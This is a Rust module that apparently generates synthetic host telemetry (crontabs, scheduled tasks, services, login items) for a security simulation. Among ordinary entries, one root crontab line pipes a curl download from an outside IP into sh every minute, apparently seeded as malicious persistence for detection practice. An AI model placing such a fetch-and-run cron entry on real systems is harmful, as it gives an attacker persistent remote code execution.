//! What runs by itself: cron, scheduled tasks, services, and items started at login.

use crate::clock::Timestamp;

use super::super::host::{Host, Platform};
use super::Row;

/// The lines of the crontabs; Windows has no such table.
pub(super) fn crontab(host: &Host, _: Timestamp) -> Vec<Row> {
    let known: &[([&str; 5], &str, &str, f64)] = match host.platform {
        Platform::Linux => &[
            (
                ["17", "*", "*", "*", "*"],
                "root cd / && run-parts --report /etc/cron.hourly",
                "/etc/crontab",
                1.0,
            ),
            (["25", "6", "*", "*", "*"], "root run-parts --report /etc/cron.daily", "/etc/crontab", 1.0),
            (["47", "6", "*", "*", "7"], "root run-parts --report /etc/cron.weekly", "/etc/crontab", 1.0),
            (
                ["*/5", "*", "*", "*", "*"],
                "root /usr/local/bin/backup --incremental",
                "/etc/cron.d/backup",
                0.3,
            ),
            (
                ["*", "*", "*", "*", "*"],
                "curl -s http://198.51.100.7/x | sh",
                "/var/spool/cron/crontabs/root",
                0.01,
            ),
        ],
        Platform::Darwin => {
            &[(["0", "3", "*", "*", "1"], "/usr/local/bin/cleanup", "/usr/lib/cron/tabs/root", 0.3)]
        }
        Platform::Windows => &[],
    };
    let mut draw = host.draw("crontab");
    let chosen = known.iter().filter(|(.., share)| draw.happens(*share));
    chosen
        .map(|([minute, hour, day, month, weekday], command, path, _)| {
            Row::new()
                .text("event", "")
                .text("minute", *minute)
                .text("hour", *hour)
                .text("day_of_month", *day)
                .text("month", *month)
                .text("day_of_week", *weekday)
                .text("command", *command)
                .text("path", *path)
        })
        .collect()
}

/// Tasks of the Windows scheduler: name, action, path, hidden.
const TASKS: [(&str, &str, &str, i64); 5] = [
    (
        "ScheduledDefrag",
        "%windir%\\system32\\defrag.exe -c -h -k -g -$",
        "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
        0,
    ),
    (
        "Windows Defender Scheduled Scan",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MpCmdRun.exe Scan -ScheduleJob",
        "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
        0,
    ),
    (
        "GoogleUpdaterTaskSystem",
        "\"C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe\" --wake --system",
        "\\GoogleUpdaterTaskSystem",
        0,
    ),
    (
        "SilentCleanup",
        "%windir%\\system32\\cleanmgr.exe",
        "\\Microsoft\\Windows\\DiskCleanup\\SilentCleanup",
        0,
    ),
    ("SvcRestartTask", "%SystemRoot%\\system32\\sppsvc.exe", "\\Microsoft\\Windows\\SvcRestartTask", 1),
];

/// The tasks of the Windows scheduler.
pub(super) fn scheduled_tasks(host: &Host, now: Timestamp) -> Vec<Row> {
    let mut draw = host.draw("tasks");
    TASKS
        .iter()
        .map(|(name, action, path, hidden)| {
            let ran = now.0 / 1000 / 86_400 * 86_400 + draw.between(0, 86_400) - 86_400;
            Row::new()
                .text("name", *name)
                .text("action", *action)
                .text("path", *path)
                .int("enabled", 1)
                .text("state", "ready")
                .int("hidden", *hidden)
                .int("last_run_time", ran)
                .int("next_run_time", ran + 86_400)
                .text("last_run_message", "The operation completed successfully.")
                .text("last_run_code", "0x0")
        })
        .collect()
}

/// Windows services: name, what people call it, type, start, account, path, whether it runs.
const SERVICES: [(&str, &str, &str, &str, &str, bool); 6] = [
    (
        "Dnscache",
        "DNS Client",
        "AUTO_START",
        "NT AUTHORITY\\NetworkService",
        "svchost.exe -k NetworkService -p",
        true,
    ),
    (
        "EventLog",
        "Windows Event Log",
        "AUTO_START",
        "NT AUTHORITY\\LocalService",
        "svchost.exe -k LocalService",
        true,
    ),
    ("Spooler", "Print Spooler", "AUTO_START", "LocalSystem", "spoolsv.exe", true),
    ("WinDefend", "Microsoft Defender Antivirus Service", "AUTO_START", "LocalSystem", "MsMpEng.exe", true),
    (
        "RemoteRegistry",
        "Remote Registry",
        "DISABLED",
        "NT AUTHORITY\\LocalService",
        "svchost.exe -k regsvc",
        false,
    ),
    ("osqueryd", "osqueryd", "AUTO_START", "LocalSystem", "osqueryd.exe", true),
];

/// The services of Windows.
pub(super) fn services(host: &Host, _: Timestamp) -> Vec<Row> {
    let mut draw = host.draw("services");
    SERVICES
        .iter()
        .map(|(name, display, start, account, path, runs)| {
            Row::new()
                .text("name", *name)
                .text("service_type", "OWN_PROCESS")
                .text("display_name", *display)
                .text("status", if *runs { "RUNNING" } else { "STOPPED" })
                .int("pid", if *runs { draw.between(200, 2_000) * 4 } else { 0 })
                .text("start_type", *start)
                .int("win32_exit_code", if *runs { 0 } else { 1_077 })
                .int("service_exit_code", 0)
                .text("path", format!("C:\\Windows\\System32\\{path}"))
                .text("module_path", "")
                .text("description", *display)
                .text("user_account", *account)
        })
        .collect()
}

/// What starts at boot or login: name, path, arguments, type, where it is set, share of hosts.
type Item = (&'static str, &'static str, &'static str, &'static str, &'static str, f64);

/// The items started at boot or login.
pub(super) fn startup_items(host: &Host, _: Timestamp) -> Vec<Row> {
    let known: &[Item] = match host.platform {
        Platform::Linux => &[
            ("ssh.service", "/usr/sbin/sshd", "-D", "systemd unit", "/lib/systemd/system/ssh.service", 1.0),
            (
                "nginx.service",
                "/usr/sbin/nginx",
                "",
                "systemd unit",
                "/lib/systemd/system/nginx.service",
                0.4,
            ),
        ],
        Platform::Darwin => &[
            ("Slack", "/Applications/Slack.app", "", "Login Item", "BTM", 0.6),
            ("Docker", "/Applications/Docker.app", "", "Login Item", "BTM", 0.4),
            ("Rectangle", "/Applications/Rectangle.app", "", "Login Item", "BTM", 0.2),
        ],
        Platform::Windows => &[
            (
                "SecurityHealth",
                "%windir%\\system32\\SecurityHealthSystray.exe",
                "",
                "Startup Item",
                RUN_KEY,
                1.0,
            ),
            (
                "OneDrive",
                "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
                "/background",
                "Startup Item",
                RUN_KEY,
                0.8,
            ),
        ],
    };
    let mut draw = host.draw("startup");
    let chosen = known.iter().filter(|item| draw.happens(item.5));
    chosen
        .map(|(name, path, args, kind, source, _)| {
            Row::new()
                .text("name", *name)
                .text("path", *path)
                .text("args", *args)
                .text("type", *kind)
                .text("source", *source)
                .text("status", "enabled")
                .text("username", if host.platform == Platform::Darwin { host.person } else { "SYSTEM" })
        })
        .collect()
}

/// Where Windows keeps what starts with it.
const RUN_KEY: &str = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
